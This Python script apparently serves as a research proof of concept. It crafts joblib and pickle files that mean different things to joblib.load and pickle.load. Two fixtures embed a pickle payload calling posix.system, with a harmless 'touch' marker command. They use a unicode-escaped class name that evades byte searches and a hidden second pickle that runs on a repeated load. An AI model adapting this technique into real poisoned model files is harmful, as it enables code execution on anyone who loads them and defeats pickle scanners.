"""joblib files that mean one thing to joblib.load and another to pickle.load, each with a twin,
proved against the real readers. Debian's python3-joblib (1.2) and python3-numpy (1.24):
/usr/bin/python3 make_double_meaning.py (from this folder). The payload only touches a marker
file in /tmp. Output recorded with joblib 1.2.0, CPython 3.11:

    escaped_wrapper.pkl: joblib.load runs posix.system; pickle.load -> bytes
    escaped_wrapper_twin.pkl: joblib.load -> ndarray; pickle.load -> bytes
    second_load.joblib: joblib.load -> ndarray; pickle.load, pickle.load runs posix.system
    second_load_twin.joblib: joblib.load -> ndarray; pickle.load, pickle.load -> NoneType

escaped_wrapper: the wrapper's name is spelled with a raw-unicode-escape (V\\u004e...), so no
byte search finds "NumpyArrayWrapper"; joblib skips the array bytes and reads a reducer that
pickle.load reads as the data of a BINBYTES.
second_load: joblib skips the array bytes; pickle.load stops at a STOP among them, and a second
pickle.load on the same file (what torch's legacy format does) runs the next pickle there.
"""
import io
import os
import pickle

import joblib
import numpy as np

MARK = "/tmp/sl-jd"  # short: the second_load payload must fit in 46 padding bytes
N = 16


def dump():
    b = io.BytesIO()
    joblib.dump(np.zeros(N, dtype=np.uint8), b, protocol=2)
    data = b.getvalue()
    build = data.index(b"numpy_array_alignment_bytes") + len(b"numpy_array_alignment_bytes") + 6  # BINPUT, BININT1 16, SETITEMS, BUILD
    assert data[build - 1:build] == b"b", data[build - 8:build + 2]
    pad = data[build]
    assert data[build + 1 + pad + N:] == b".", data[build:]
    return data[:build], data[build + 1 + pad + N:]


def escaped_wrapper(payload):
    head, tail = dump()
    head = head.replace(b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n",
                        b"Vjoblib.numpy_pickle\nV\\u004eumpyArrayWrapper\n\x93")
    pad = ord("0")  # joblib's padding length; to pickle.load: POP the wrapper
    rest = pad - 5
    binbytes = b"B" + (rest + N + len(payload)).to_bytes(4, "little")
    region = bytes([pad]) + binbytes + b"\0" * rest + bytes(N)
    assert len(region) == 1 + pad + N
    return head + region + payload + tail


def second_load(payload):
    head, tail = dump()
    pad = ord(".")  # to pickle.load: STOP, returning the wrapper
    assert len(payload) <= pad
    region = bytes([pad]) + payload.ljust(pad, b"\0") + bytes(N)
    return head + region + tail


EVIL = b"cposix\nsystem\n(Vtouch " + MARK.encode() + b"\ntR"
FIXTURES = {
    "escaped_wrapper.pkl": escaped_wrapper(EVIL + b"0"),
    "escaped_wrapper_twin.pkl": escaped_wrapper(b"N0"),
    "second_load.joblib": second_load(EVIL + b"."),
    "second_load_twin.joblib": second_load(b"N."),
}


def outcome(read, path):
    if os.path.exists(MARK):
        os.remove(MARK)
    try:
        value = read(path)
        return "runs posix.system" if os.path.exists(MARK) else type(value).__name__
    except Exception as e:
        return "fails: " + type(e).__name__


def twice(path):
    with open(path, "rb") as f:
        pickle.load(f)
        return pickle.load(f)


def once(path):
    with open(path, "rb") as f:
        return pickle.load(f)


for name, data in FIXTURES.items():
    with open(name, "wb") as f:
        f.write(data)
    second = name.startswith("second")
    print(f"{name}: joblib.load -> {outcome(joblib.load, name)}; "
          + (f"pickle.load, pickle.load -> {outcome(twice, name)}" if second else f"pickle.load -> {outcome(once, name)}"))
